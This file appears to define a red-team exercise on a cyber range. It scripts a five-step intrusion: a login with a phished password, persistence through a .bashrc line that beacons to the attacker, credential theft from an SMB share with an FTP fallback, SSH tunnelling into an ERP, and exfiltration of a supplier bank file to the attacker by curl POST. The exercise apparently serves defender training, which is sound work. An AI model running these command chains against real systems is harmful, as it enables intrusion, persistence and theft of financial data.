# The red team's timeline. The intruder logs into the phished workstation
# and launches every later step from it, with its tools (smbclient, lftp,
# sshpass, curl): the file server sees the workstation's address, never the
# attacker's. Every step after the foothold is chained on it, so containing
# the workstation in time stops the whole intrusion.
#
# ssh from the attacker needs no -o options (see scenarios/images/README.md);
# ssh launched on the workstation spells them out.

attack "phished-credential-foothold" {
  title       = "Login to the accountant's workstation with her phished password, and a beacon"
  description = "Valid account from the phishing campaign; persistence in ~/.bashrc; an HTTP beacon to the attacker on 8443."
  technique   = ["T1078", "T1546.004", "T1071.001"]
  at          = "15m"
  from        = attacker.red
  target      = host.ws-contab
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
    echo '(curl -s -m 5 http://${attacker.red.address}:8443/b/${run.nonce} >/dev/null 2>&1 &) # actualizador-firma' >> ~/.bashrc
    curl -s -m 5 http://${attacker.red.address}:8443/b/${run.nonce} >/dev/null 2>&1
    echo "foothold: $(id -un)@$(hostname)"
    REMOTE
  EOT
  ]
  timeout = "2m"
  success {
    callback {
      port   = 8443
      within = "1m"
    }
    probe {
      command        = ["grep", "-c", "8443/b/", "/home/mgonzalez/.bashrc"]
      output_matches = "^[1-9]"
    }
  }
}

attack "smb-share-credential-theft" {
  title       = "Password reuse over SMB: the ERP admin's password read from the ti share"
  description = "mgonzalez's password also opens the file server; the ti share accepts any user and holds the ERP's access sheet."
  technique   = ["T1021.002", "T1135", "T1039", "T1552.001"]
  after       = attack.phished-credential-foothold
  when        = "succeeded"
  delay       = "4m"
  from        = attacker.red
  target      = host.archivos
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
    smbclient -L //${host.archivos.address} -U 'mgonzalez%${secret("mgonzalez")}' </dev/null 2>&1 | grep Disk
    smbclient //${host.archivos.address}/ti -U 'mgonzalez%${secret("mgonzalez")}' \
      -c 'recurse ON; ls; get inventario/erp-acceso.txt -'
    REMOTE
  EOT
  ]
  timeout = "2m"
  success {
    output_matches = secret("erp-admin")
  }
}

attack "ftp-credential-reuse" {
  title       = "Fallback: password reuse over FTP to read the same file"
  description = "Runs only if the SMB theft was blocked: vsftpd does not jail local users, so the whole file system is readable."
  technique   = ["T1078", "T1552.001"]
  after       = attack.smb-share-credential-theft
  when        = "blocked"
  delay       = "2m"
  from        = attacker.red
  target      = host.archivos
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
    lftp -u 'mgonzalez,${secret("mgonzalez")}' \
      -e 'set ftp:ssl-allow no; set net:max-retries 1; set net:timeout 10; cat /srv/archivos/ti/inventario/erp-acceso.txt; bye' \
      ${host.archivos.address}
    REMOTE
  EOT
  ]
  timeout = "2m"
  success {
    output_matches = secret("erp-admin")
  }
}

attack "erp-lateral-movement" {
  title       = "SSH into the ERP through a tunnel in the file server"
  description = "Password reuse over SSH on the file server, a port forward to the ERP on the server network, and the stolen erpadmin password. The ERP is out of the attacker's reach, so the target recorded is the file server, the pivot."
  technique   = ["T1021.004", "T1572", "T1078"]
  after       = attack.smb-share-credential-theft
  when        = "succeeded"
  delay       = "6m"
  from        = attacker.red
  target      = host.archivos
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
    O='-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=10'
    sshpass -p '${secret("mgonzalez")}' ssh $O -N -o ControlMaster=yes -o ControlPath=/tmp/.s-${run.id} \
      -o ExitOnForwardFailure=yes -L 127.0.0.1:2222:${host.erp.address}:22 \
      mgonzalez@${host.archivos.address} </dev/null >/dev/null 2>&1 &
    for i in $(seq 20); do ssh -S /tmp/.s-${run.id} -O check tunnel 2>/dev/null && break; sleep 0.5; done
    sshpass -p '${secret("erp-admin")}' ssh $O -n -p 2222 erpadmin@127.0.0.1 \
      'hostname; id; psql -d erp -Atc "SELECT count(*) FROM pagos_proveedores"'
    REMOTE
  EOT
  ]
  cleanup = [
    "sshpass", "-p", secret("mgonzalez"), "ssh", "mgonzalez@${host.ws-contab.address}",
    "ssh -S /tmp/.s-${run.id} -O exit tunnel 2>/dev/null; true",
  ]
  timeout = "2m"
  success {
    output_matches = "(?s)srv-erp\\s+uid=[0-9]+\\(erpadmin\\)"
  }
}

attack "supplier-data-exfiltration" {
  title       = "Supplier bank-account file exfiltrated to the attacker"
  description = "mgonzalez may read the accounting share; the file is staged on the workstation and leaves through its HTTP channel to the attacker. The target recorded is the workstation: the file leaves from it, and the callback comes from it."
  technique   = ["T1039", "T1041"]
  after       = attack.phished-credential-foothold
  when        = "succeeded"
  delay       = "25m"
  from        = attacker.red
  target      = host.ws-contab
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
    smbclient //${host.archivos.address}/contabilidad -U 'mgonzalez%${secret("mgonzalez")}' \
      -c 'get Pagos/proveedores-2026.csv /tmp/.cache-${run.id}.csv' || exit 1
    curl -s -m 20 -X POST --data-binary @/tmp/.cache-${run.id}.csv \
      http://${attacker.red.address}:8443/u/${run.nonce} >/dev/null 2>&1
    REMOTE
  EOT
  ]
  timeout = "2m"
  success {
    output_matches = "getting file .*proveedores-2026\\.csv"
    callback {
      port   = 8443
      within = "1m"
    }
  }
}
